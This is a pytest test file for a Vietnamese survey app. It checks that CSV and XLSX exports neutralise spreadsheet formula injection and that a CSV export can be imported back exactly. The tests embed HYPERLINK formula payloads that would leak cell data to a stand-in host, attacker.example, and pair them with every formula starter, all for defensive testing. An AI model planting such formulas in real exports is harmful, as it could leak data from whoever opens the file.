"""No user text becomes a formula in an export.

XLSX: every cell written from text is a text cell (data type "s"), whatever it starts with.
CSV: a cell starting with =, +, -, @, a tab or a carriage return gets a leading apostrophe,
which `flask responses import` takes off again, so that export -> import gives back exactly the
answers; numbers (a negative answer to a number question) are written as numbers.
"""

import csv
import io
import json
import shutil
import subprocess

import openpyxl
import pytest
import sqlalchemy as sa

from survey.core.text_safety import FORMULA_STARTERS, csv_cell, csv_value
from survey.models import Answer, Question, Unit
from survey.responses.catalog import survey_by_code
from tests.factories import make_organization, make_surveyed_commune, make_unit, submit_and_commit

ATTACK = 'HYPERLINK("http://attacker.example/?leak="&B2,"Bấm vào đây")'
# One text per starter, and texts that look like the escaped form already.
TEXTS = [
    *(starter + ATTACK for starter in FORMULA_STARTERS),
    "'=" + ATTACK,
    "''@x",
    "'bình thường",
    "-3",
    "- gạch đầu dòng",
    "+84 912 345 678",
    "@mention",
    "Đường vào thôn hỏng",
]
NUMBERS = [-3, -2.5, 0, 7]


def run(runner, *args):
    return runner.invoke(args=[str(a) for a in args])


def test_every_starter_is_covered():
    assert set(FORMULA_STARTERS) == {"=", "+", "-", "@", "\t", "\r"}


@pytest.mark.parametrize("text", TEXTS)
def test_a_csv_cell_comes_back_as_it_was(text):
    cell = csv_cell(text)
    if text[0] in FORMULA_STARTERS and text != "-3":
        assert cell == "'" + text
    assert not cell.startswith(FORMULA_STARTERS) or cell == "-3"
    assert csv_value(cell) == text


@pytest.mark.parametrize("number", ["-3", "-2.5", "-1e-05", "12", "0"])
def test_numbers_are_written_as_numbers(number):
    assert csv_cell(number) == number
    assert csv_value(number) == number


def _survey(db, runner, tmp_path):
    org = make_organization(db, code="nongdan")
    unit = make_unit(db, code="thon1")
    definition = {
        "code": "ks-congthuc",
        "audience": "public",
        "topic": "satisfaction",
        "year": 2025,
        "title": {"vi": "=Khảo sát"},
        "organizations": [org.code],
        "questions": [
            {"code": "hl", "kind": "likert5", "text": {"vi": "=1+1"}},
            {"code": "gop_y", "kind": "text", "text": {"vi": "@Góp ý"}},
            {
                "code": "nhiet_do",
                "kind": "number",
                "min_value": -50,
                "max_value": 50,
                "text": {"vi": "-Nhiệt độ"},
            },
        ],
    }
    path = tmp_path / "ks.json"
    path.write_text(json.dumps(definition, ensure_ascii=False), encoding="utf-8")
    assert run(runner, "survey", "load", path).exit_code == 0
    assert run(runner, "survey", "open", "ks-congthuc").exit_code == 0
    survey = survey_by_code("ks-congthuc")
    for n, text in enumerate(TEXTS):
        answers = {"hl": 4, "gop_y": text, "nhiet_do": NUMBERS[n % len(NUMBERS)]}
        submit_and_commit(survey, answers, submission_uid=f"u{n}", unit_id=unit.id)
    # Closed: every answer is in the export (open, they would come in batches of k).
    assert run(runner, "survey", "close", "ks-congthuc").exit_code == 0
    return survey


def _stored(db, code):
    survey = survey_by_code(code)
    rows = db.session.execute(
        sa.select(Question.code, Answer.text, Answer.number)
        .join(Question, Question.id == Answer.question_id)
        .where(Question.survey_id == survey.id)
    ).all()
    texts = sorted(t for c, t, _n in rows if c == "gop_y")
    numbers = sorted(n for c, _t, n in rows if c == "nhiet_do")
    return texts, numbers


def test_the_csv_defuses_every_starter_and_imports_back_exactly(runner, db, tmp_path):
    _survey(db, runner, tmp_path)
    path = tmp_path / "phieu.csv"
    assert (
        run(runner, "survey", "export", "ks-congthuc", "--format", "csv", "-o", path).exit_code == 0
    )
    with path.open(encoding="utf-8-sig", newline="") as f:
        header, *rows = list(csv.reader(f))
    cells = [dict(zip(header, row, strict=True)) for row in rows]
    written = {c["gop_y"] for c in cells}
    for text in TEXTS:
        if text[0] in FORMULA_STARTERS and text != "-3":
            assert "'" + text in written
    assert not [c for c in written if c.startswith(FORMULA_STARTERS) and c != "-3"]
    assert {c["nhiet_do"] for c in cells} == {"-3", "-2.5", "0", "7"}

    definition = json.loads(run(runner, "survey", "dump", "ks-congthuc").output)
    definition["code"] = "ks-congthuc-ban-sao"
    copy = tmp_path / "ban-sao.json"
    copy.write_text(json.dumps(definition, ensure_ascii=False), encoding="utf-8")
    assert run(runner, "survey", "load", copy).exit_code == 0
    assert run(runner, "survey", "open", "ks-congthuc-ban-sao").exit_code == 0
    imported = run(runner, "responses", "import", "ks-congthuc-ban-sao", path)
    assert imported.exit_code == 0, imported.output
    # Exactly what was stored; every way in (the form, paper entry, import) stores a text
    # trimmed, so one that starts with a tab or a carriage return comes back trimmed.
    texts, numbers = _stored(db, "ks-congthuc-ban-sao")
    assert texts == sorted(t.strip() for t in TEXTS)
    assert numbers == _stored(db, "ks-congthuc")[1]
    assert _stored(db, "ks-congthuc")[0] == sorted(TEXTS)


def _text_cells(book):
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    yield sheet.title, cell


def test_the_survey_workbook_stores_every_text_as_text(runner, db, tmp_path):
    _survey(db, runner, tmp_path)
    path = tmp_path / "phieu.xlsx"
    result = run(runner, "survey", "export", "ks-congthuc", "--format", "xlsx", "-o", path)
    assert result.exit_code == 0, result.output
    book = openpyxl.load_workbook(path)
    cells = list(_text_cells(book))
    values = {cell.value for _sheet, cell in cells}
    assert set(TEXTS) <= values  # exactly as answered, no apostrophe in a workbook
    # The survey's title and the question texts, as the sheets name them.
    assert {"=Khảo sát", "Câu 1. =1+1", "Câu 3. -Nhiệt độ"} <= values
    formulas = [(s, c.coordinate, c.value) for s, c in cells if c.data_type != "s"]
    assert not formulas
    sheet = book["Phiếu trả lời"]
    header = [c.value for c in sheet[1]]
    numbers = {
        row[header.index("Câu 3. -Nhiệt độ")]
        for row in sheet.iter_rows(min_row=2, values_only=True)
    }
    assert numbers == {-3, -2.5, 0, 7}


def test_the_survey_workbook_of_an_officer_stores_its_notes_as_text(app, db, runner, tmp_path):
    survey = _survey(db, runner, tmp_path)
    tagged = next(q for q in survey.questions if q.code == "gop_y")
    tagged.organization_id = make_organization(db, code="phunu").id
    db.session.commit()
    from survey.accounts.access import withheld_text_questions
    from survey.reports.exports import survey_xlsx
    from tests.factories import make_user

    officer = make_user(db, role="org_officer", organization_id=survey.organizations[0].id)
    book = openpyxl.load_workbook(
        io.BytesIO(survey_xlsx(survey, withheld_text_questions(officer, survey)))
    )
    notes = [c for s, c in _text_cells(book) if s == "Ghi chú"]
    assert any(c.value == "@Góp ý" and c.data_type == "s" for c in notes)


@pytest.mark.parametrize("starter", FORMULA_STARTERS)
def test_the_year_workbook_stores_officers_texts_as_text(runner, db, tmp_path, starter):
    commune = make_surveyed_commune(db)
    texts = {
        "org": starter + "Hội Nông dân",
        "unit": starter + "Thôn Một",
        "question": starter + 'HYPERLINK("http://attacker.example/")',
        "option": starter + "Loa thôn",
    }
    commune["nongdan"].name = texts["org"]
    db.session.get(Unit, commune["units"]["thon1"].id).name = texts["unit"]
    question = next(q for q in commune["survey"].questions if q.code == "hl")
    question.text = {"vi": texts["question"]}
    option = next(q for q in commune["survey"].questions if q.code == "kenh").options[0]
    option.label = {"vi": texts["option"]}
    db.session.commit()
    path = tmp_path / "nam.xlsx"
    result = run(runner, "report", "--year", 2025, "--format", "xlsx", "-o", path)
    assert result.exit_code == 0, result.output
    cells = list(_text_cells(openpyxl.load_workbook(path)))
    question = texts.pop("question")
    assert set(texts.values()) <= {c.value for _s, c in cells}
    assert f"Câu 1. {question}" in {c.value for _s, c in cells}
    assert not [(s, c.coordinate, c.value) for s, c in cells if c.data_type != "s"]


LIBREOFFICE = shutil.which("libreoffice") or shutil.which("soffice")
# Comma-separated, double quotes, UTF-8 (LibreOffice's character set number 76).
UTF8_CSV = "csv:Text - txt - csv (StarCalc):44,34,76"


@pytest.mark.skipif(
    LIBREOFFICE is None,
    reason="LibreOffice is not installed (apt-get install libreoffice-calc-nogui): the "
    "workbook is not opened by a spreadsheet program",
)
def test_a_spreadsheet_program_does_not_evaluate_the_answers(runner, db, tmp_path):
    survey = _survey(db, runner, tmp_path)
    submit_and_commit(survey, {"hl": 3, "gop_y": "=1+1"}, submission_uid="cong", unit_id=None)
    path = tmp_path / "phieu.xlsx"
    result = run(runner, "survey", "export", "ks-congthuc", "--format", "xlsx", "-o", path)
    assert result.exit_code == 0, result.output
    profile = (tmp_path / "lo-profile").as_uri()
    subprocess.run(
        [LIBREOFFICE, f"-env:UserInstallation={profile}", "--headless", "--convert-to", UTF8_CSV]
        + ["--outdir", str(tmp_path), str(path)],
        check=True,
        capture_output=True,
        timeout=180,
    )
    with (tmp_path / "phieu.csv").open(encoding="utf-8", newline="") as f:
        header, *rows = list(csv.reader(f))
    answers = {row[header.index("Câu 2. @Góp ý")] for row in rows}
    assert "=1+1" in answers and "2" not in answers
    assert {starter + ATTACK for starter in ("=", "+", "-", "@")} <= answers
